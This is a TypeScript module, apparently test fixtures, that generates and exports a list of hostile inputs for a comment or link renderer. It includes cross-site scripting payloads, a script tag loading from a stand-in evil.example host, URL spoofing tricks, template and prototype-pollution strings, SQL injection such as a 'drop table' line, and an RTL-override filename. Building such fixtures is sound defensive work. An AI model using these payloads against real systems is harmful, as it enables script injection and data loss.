const tags = ['script', 'img', 'svg', 'iframe', 'object', 'embed', 'style', 'base', 'math', 'video', 'details', 'form'];
const handlers = ['onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle', 'onbeforeinput'];
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  ' javascript:',
  'data:text/html,',
  'vbscript:',
  'file:///',
];

const elements = tags.flatMap((tag) => [
  `<${tag} src=x onerror=alert(1)>`,
  `</p></div><${tag}>alert(1)</${tag}>`,
  `<${tag.toUpperCase()}/src=//evil.example/x.js>`,
]);
const attributes = handlers.flatMap((handler) => [
  `" ${handler}="alert(1)`,
  `' ${handler}='alert(1)`,
  `https://example.org/" ${handler}="alert(1)`,
  `https://example.org/'${handler}=alert(1)//`,
]);
const links = schemes.flatMap((scheme) => [
  `${scheme}alert(1)`,
  `[click](${scheme}alert(1))`,
  `<a href="${scheme}alert(1)">x</a>`,
  `> ${scheme}alert(1)`,
]);
const odd = [
  'https://user:pass@evil.example/',
  'https://example.org@evil.example/',
  'https://example.org\\@evil.example/',
  'https://[::1',
  'https://xn--/',
  'http://<script>alert(1)</script>',
  'https://example.org/?q=<script>alert(1)</script>',
  'https://example.org/</textarea><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\u003cscript\\u003ealert(1)',
  '＜script＞alert(1)＜/script＞',
  '\u202egnp.exe\u202c',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<% alert(1) %>',
  '__proto__',
  `'; drop table comment; --`,
  '" or 1=1 --',
  `${'>'.repeat(2000)} deep`,
  'https://'.repeat(400),
];

/** What people write who want it to be more than words: into a comment, a link, an attribute, a query. */
export const hostilePayloads: readonly string[] = [...elements, ...attributes, ...links, ...odd];
